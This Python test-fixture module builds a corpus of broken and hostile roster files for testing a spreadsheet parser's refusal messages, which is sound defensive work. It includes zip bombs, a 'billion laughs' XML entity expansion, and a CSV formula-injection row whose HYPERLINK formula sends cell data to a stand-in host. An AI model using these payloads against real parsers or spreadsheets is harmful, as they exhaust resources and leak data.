"""Broken, odd and hostile roster files, made from code, and what must happen to each."""

import datetime as dt
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl

HEADS = "id,unit,grade,role,capacity,manager,start date"
ROWS = [
    "a,Sales,1,mentor,1,x,2021-01-01",
    "b,IT,2,mentor,2,x,2022-05-03",
    "x,Sales,7,mentee,1,,2001-01-01",
    "y,IT,8,mentee,1,x,2002-02-28",
]
GOOD = "\n".join([HEADS, *ROWS]) + "\n"


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus.

    ``make`` writes it into a folder and returns its path. It must be refused with a sentence that
    holds ``says``, or, if that is empty, be read with this note.
    """

    name: str
    make: Callable[[Path], Path]
    says: str = ""
    note: str = ""


def text(content: str | bytes, name: str = "staff.csv") -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        raw = content.encode() if isinstance(content, str) else content
        (folder / name).write_bytes(raw)
        return folder / name

    return make


def rows(*lines: str) -> Callable[[Path], Path]:
    """A roster with these rows below four good people."""
    return text("\n".join([HEADS, *ROWS, *lines]) + "\n")


def book(fill: Callable[[openpyxl.Workbook], object], name: str = "staff.xlsx"):
    def make(folder: Path) -> Path:
        made = openpyxl.Workbook()
        page = made.active
        for line in GOOD.splitlines():
            page.append(
                [int(cell) if cell.isdecimal() else cell or None for cell in line.split(",")]
            )
        fill(made)
        made.save(folder / name)
        return folder / name

    return make


def packed(change: Callable[[dict[str, bytes]], None]) -> Callable[[Path], Path]:
    """A good workbook whose parts are changed."""

    def make(folder: Path) -> Path:
        path = book(lambda made: None)(folder)
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        change(parts)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in parts.items():
                archive.writestr(name, content)
        return path

    return make


def bomb(folder: Path) -> Path:
    """More than a gigabyte when unpacked: forty entries of the directory share one part."""
    path = folder / "staff.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", bytes(30_000_000))
        archive.filelist += archive.filelist * 39
    return path


def lying_bomb(folder: Path) -> Path:
    """Unpacks to 60 MB, which is allowed, but grows a thousandfold."""
    path = folder / "staff.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", bytes(60_000_000))
    return path


def truncated(folder: Path) -> Path:
    path = book(lambda made: None)(folder)
    path.write_bytes(path.read_bytes()[:2000])
    return path


def locked(folder: Path) -> Path:
    """A workbook whose parts say that they are encrypted."""
    path = book(lambda made: None)(folder)
    raw = bytearray(path.read_bytes())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(mark)
        while at >= 0:
            raw[at + place] |= 1
            at = raw.find(mark, at + 4)
    path.write_bytes(bytes(raw))
    return path


def laughs(parts: dict[str, bytes]) -> None:
    """Entities that unfold to a gigabyte, in the place of the texts."""
    levels = [f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, 10)]
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{"".join(levels)}]>'
    name = "xl/worksheets/sheet1.xml"
    sheet = parts[name].decode().partition("?>")[2] or parts[name].decode()
    parts[name] = (head + sheet.replace("<v>1</v>", "<v>&e9;</v>", 1)).encode()


def half(parts: dict[str, bytes]) -> None:
    """Half a character, which XML must not hold."""
    name = "xl/worksheets/sheet1.xml"
    parts[name] = parts[name].replace(b"<v>1</v>", b"<v>&#xD800;</v>", 1)


def far_cells(parts: dict[str, bytes]) -> None:
    """A cell in the last column of each of twenty thousand rows."""
    name = "xl/worksheets/sheet1.xml"
    cells = "".join(
        f'<row r="{k}"><c r="XFD{k}" t="n"><v>1</v></c></row>' for k in range(10, 20_010)
    )
    parts[name] = parts[name].replace(b"</sheetData>", cells.encode() + b"</sheetData>")


def entered(**cells: object) -> Callable[[openpyxl.Workbook], None]:
    """Values for cells of the first sheet."""

    def fill(made: openpyxl.Workbook) -> None:
        for place, value in cells.items():
            made.active[place] = value

    return fill


def merged(made: openpyxl.Workbook) -> None:
    made.active["B3"] = None
    made.active.merge_cells("B2:B3")


def merged_forever(parts: dict[str, bytes]) -> None:
    """Nine hundred areas that run from the second row to the last row of a sheet."""
    name = "xl/worksheets/sheet1.xml"
    areas = "".join(f'<mergeCell ref="B2:B{1_048_576 - k}"/>' for k in range(900))
    whole = f"</sheetData><mergeCells>{areas}</mergeCells>"
    parts[name] = parts[name].replace(b"</sheetData>", whole.encode())


def titled(made: openpyxl.Workbook) -> None:
    made.active.insert_rows(1, 3)
    made.active["A1"] = "Staff list"
    made.active.merge_cells("A1:G1")
    made.active.append(["Total", None, None, None, 5])


def hidden(made: openpyxl.Workbook) -> None:
    made.create_sheet("Old")["A1"] = "secret"
    made["Old"].sheet_state = "hidden"


def link(folder: Path, target: str) -> Path:
    (folder / "staff.csv").symlink_to(target)
    return folder / "staff.csv"


def linked(folder: Path) -> Path:
    (folder / "real.csv").write_text(GOOD, encoding="utf-8")
    return link(folder, str(folder / "real.csv"))


def folder_called(folder: Path) -> Path:
    (folder / "staff.csv").mkdir()
    return folder / "staff.csv"


def pipe(folder: Path) -> Path:
    os.mkfifo(folder / "staff.csv")
    return folder / "staff.csv"


def forbidden(folder: Path) -> Path:
    """Read as an ordinary user it is refused by the system; the test simulates that for root."""
    path = folder / "forbidden.csv"
    path.write_text(GOOD, encoding="utf-8")
    path.chmod(0)
    return path


def ods(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "staff.xlsx", "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office/>")
    return folder / "staff.xlsx"


def swapped(old: str, new: str) -> str:
    assert old in GOOD, old
    return GOOD.replace(old, new)


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
UTF16_HALF = GOOD.replace("Sales", "S\ud800").encode("utf-16", "surrogatepass")
BOTH = GOOD.replace("Sales", "Zürich").encode() + "c,Genève,1,mentor,1,x,2020-01-01\n".encode(
    "cp1252"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
HTML = "<html><body><table><tr><td>id</td></tr></table></body></html>"

CORPUS = (
    # what cannot be a table
    Hostile("empty file", text(""), "is empty"),
    Hostile("only blanks", text(" \n ,,\n\t\n"), "is empty"),
    Hostile("headings only", text(HEADS + "\n"), "holds headings but no people"),
    Hostile("no headings", text("\n".join(ROWS)), "looks like"),
    Hostile("a folder called csv", folder_called, "holds no CSV or XLSX file"),
    Hostile("no such file", lambda folder: folder / "gone.csv", "there is no such file"),
    Hostile(
        "a link to nothing", lambda f: link(f, "gone.csv"), "points to a file that is not there"
    ),
    Hostile("a link to itself", lambda f: link(f, "staff.csv"), "points to a file that is not"),
    Hostile("a link to a device", lambda f: link(f, "/dev/zero"), "is no ordinary file"),
    Hostile("a pipe", pipe, "is no ordinary file"),
    Hostile("a link to a good file", linked),
    Hostile("a file that may not be read", forbidden, "cannot be opened (Permission denied)"),
    Hostile("a PDF called csv", text(b"%PDF-1.7\n%\xe2\xe3\n1 0 obj"), "is a PDF, not a table"),
    Hostile("a PDF", text(b"%PDF-1.7", "staff.pdf"), "a file of this kind (.pdf)"),
    Hostile("JSON called csv", text('[{"id": "a", "unit": "IT"}]'), "holds JSON, not a table"),
    Hostile("HTML called csv", text("\n" + HTML), "is a web page or XML, not a table"),
    Hostile("HTML called xls", text(HTML, "staff.xls"), "a file of this kind (.xls)"),
    Hostile("HTML called xlsx", text(HTML, "staff.xlsx"), "cannot be read as an XLSX workbook"),
    Hostile("RTF called csv", text("{\\rtf1 id}"), "is a text document, not a table"),
    Hostile("gzip called csv", text(b"\x1f\x8b\x08\0" + bytes(40)), "is packed (gzip)"),
    Hostile("old binary workbook", text(OLE, "staff.xls"), "a file of this kind (.xls)"),
    Hostile("old workbook called xlsx", text(OLE, "staff.xlsx"), "or has a password"),
    Hostile(
        "workbook with a password", text(OLE + b"EncryptedPackage", "staff.xlsx"), "a password"
    ),
    Hostile("workbook called csv", text(b"PK\x03\x04" + bytes(60)), "rename it to .xlsx"),
    Hostile("ods", text(b"PK\x03\x04", "staff.ods"), "a file of this kind (.ods)"),
    Hostile("ods called xlsx", ods, "is another kind of workbook (.ods)"),
    Hostile("CSV called xlsx", text(GOOD, "staff.xlsx"), "cannot be read as an XLSX workbook"),
    Hostile("truncated workbook", truncated, "cannot be read as an XLSX workbook"),
    Hostile("locked parts", locked, "cannot be read as an XLSX workbook"),
    Hostile("no ending", text(GOOD, "staff"), "(no ending) cannot be read"),
    # what is too much
    Hostile("zip bomb", bomb, "unpacks to 1200 MB"),
    Hostile("smaller bomb", lying_bomb, "unpacks to 60 MB"),
    Hostile("entities that unfold", packed(laughs), "cannot be read as an XLSX workbook"),
    Hostile("far cells", packed(far_cells), "has more than 5000000 cells"),
    Hostile("merged for ever", packed(merged_forever)),
    Hostile(
        "a cell of a million", rows("c,IT," + "9" * 10**6 + ",mentor,1,,"), "row 6: the quotation"
    ),
    Hostile("a long cell in a book", book(entered(B2="x" * 32_767)), "has 32767 characters"),
    Hostile(
        "20,000 columns", text(",".join(map(str, range(20_000))) + "\n1\n"), "has 20000 columns"
    ),
    Hostile(
        "2,000,000 rows", text(HEADS + "\n" + "q,IT,1,mentor\n" * 2_000_000), "than 200000 rows"
    ),
    Hostile(
        "20,000,000 cells", text("id,unit,grade\n" + "," * 20_000_000), "more than 5000000 cells"
    ),
    Hostile("60 MB", text(b"a" * 60_000_000), "is 60 MB; at most 50 are read"),
    # what is broken inside
    Hostile("NUL bytes", rows("c\0,IT,1,mentor,1,,"), "holds bytes that are not text"),
    Hostile("noise", text(bytes(range(256)) * 4), "holds bytes that are not text"),
    Hostile("half a character", text(UTF16_HALF), "holds bytes that are not text"),
    Hostile("half a character in a book", packed(half), "cannot be read as an XLSX"),
    Hostile("open quotation mark", rows('c,"IT,1,mentor,1,,'), "row 6: the quotation marks"),
    Hostile("too many cells", rows("c,IT,1,mentor,1,x,2020-01-01,9"), "row 6: has 8 cells under 7"),
    Hostile("too few cells", rows("c,IT,,mentor"), "row 6, column 'grade': must not be empty"),
    Hostile(
        "two separators", rows("c;IT;1;mentor;1;x;2020-01-01"), "row 6: the cells are separated"
    ),
    Hostile("a heading twice", text(swapped("manager", "unit")), "two columns have this heading"),
    Hostile("a heading twice but for case", text(swapped("manager", " UNIT ")), "two columns have"),
    Hostile("formula without result", book(entered(C2="=1+1")), "formula without a stored result"),
    Hostile("formulas in a circle", book(entered(C2="=C3", C3="=C2")), "formula without a stored"),
    Hostile("spreadsheet complaint", rows("c,#REF!,1,mentor,1,,"), "holds '#REF!' instead"),
    # ids
    Hostile("empty id", rows(",IT,1,mentor,1,,"), "row 6, column 'id': must not be empty"),
    Hostile(
        "id made a date in a book", book(entered(A2=dt.datetime(2024, 3, 1))), "is a date, which"
    ),
    Hostile("id made a date", rows("1/3/2024,IT,1,mentor,1,,"), "row 6, column 'id': is a date"),
    Hostile("id shortened", rows("1.23E+05,IT,1,mentor,1,,"), "that a spreadsheet shortened"),
    Hostile("id of 17 digits", book(entered(A2=12345678901234567)), "that a spreadsheet shortened"),
    Hostile("long id", rows("c" * 300 + ",IT,1,mentor,1,,"), "column 'id': has 300 characters"),
    Hostile("ids with leading zeros", rows("007,IT,1,mentor,1,,", "7,IT,1,mentor,1,,")),
    Hostile("same id, other row", rows("a,IT,1,mentor,1,,"), "row 6: repeats the person of row 2"),
    Hostile("same row twice", rows(ROWS[0]), note="1 row repeats an earlier row word for word"),
    Hostile(
        "same id, invisible mark", rows("a\u200b,IT,1,mentor,1,,"), "row 6: repeats the person"
    ),
    Hostile("circle of managers", rows("c,IT,1,mentor,1,d,", "d,IT,1,mentor,1,c,"), "in a circle"),
    Hostile("own manager", rows("c,IT,1,mentor,1,c,")),
    # grades, numbers, dates
    Hostile("negative grade", rows("c,IT,-1,mentor,1,,"), "'-1'"),
    Hostile("half a grade", rows("c,IT,1.5,mentor,1,,"), "'1.5'"),
    Hostile("huge grade", rows("c,IT,99999999,mentor,1,,"), "'99999999'"),
    Hostile("grade without end", rows("c,IT,1e999,mentor,1,,"), "'1e999'"),
    Hostile(
        "unknown role",
        rows("c,IT,1,boss,1,,"),
        "row 6, column 'role': must be one of 'mentor', 'mentee'; got 'boss'",
    ),
    Hostile("capacity without end", rows("c,IT,1,mentor,inf,,"), "must be a number; got 'inf'"),
    Hostile("date in two readings", rows("c,IT,1,mentor,1,,03/04/2011"), "can be 03 April 2011 or"),
    Hostile("no such day", rows("c,IT,1,mentor,1,,31.02.2011"), "is no date that there is"),
    Hostile(
        "dates in many styles",
        rows(
            "c,IT,1,mentor,1,,31.12.2011",
            "d,IT,1,mentor,1,,12/31/2011",
            "e,IT,1,mentor,1,,40543",
            "f,IT,1,mentor,1,,3 May 2011",
        ),
    ),
    # what offices write, to be read
    Hostile("byte-order mark", text(GOOD.encode("utf-8-sig"))),
    Hostile("UTF-16", text(GOOD.encode("utf-16")), note="read as UTF-16"),
    Hostile("Windows-1252", text(swapped("Sales", "Zürich").encode("cp1252")), note="Windows-1252"),
    Hostile(
        "mixed encodings", text(BOTH), note="mixes two encodings; 1 lines, the first being line 6"
    ),
    Hostile("semicolons", text(GOOD.replace(",", ";"))),
    Hostile("padding", text(GOOD.replace(",", "\u00a0 , "))),
    Hostile("text running backwards", text(swapped("Sales", "\u202eselaS\u202c"))),
    Hostile("blank rows and columns", text(GOOD.replace("\n", ",,\n\n"))),
    Hostile(
        "a title in another language of commas",
        text("Staff, 2024\n\n" + GOOD.replace(",", ";")),
        note="row 1 is left out: a title above the headings",
    ),
    Hostile("total at the end", rows("Total,,,,5,,"), note="row 6 is left out: a row of totals"),
    Hostile("headings again", rows(HEADS), note="row 6 is left out: the headings once more"),
    Hostile("title and total in a book", book(titled), note="a title above the headings"),
    Hostile("merged cells", book(merged), note="1 merged cells (rows 3 to 3)"),
    Hostile("hidden sheet", book(hidden), note="the hidden sheet 'Old' is not read"),
    Hostile("macros", book(lambda made: None, "staff.xlsm")),
    Hostile(
        "formulas everywhere",
        rows(f'=cmd,"{FORMULA.replace(chr(34), chr(34) * 2)}",1,mentor,1,@x,'),
    ),
    Hostile(
        "column without heading", text(swapped("capacity", "")), note="column 5 has no heading"
    ),
)
"""Every file, with what must happen."""
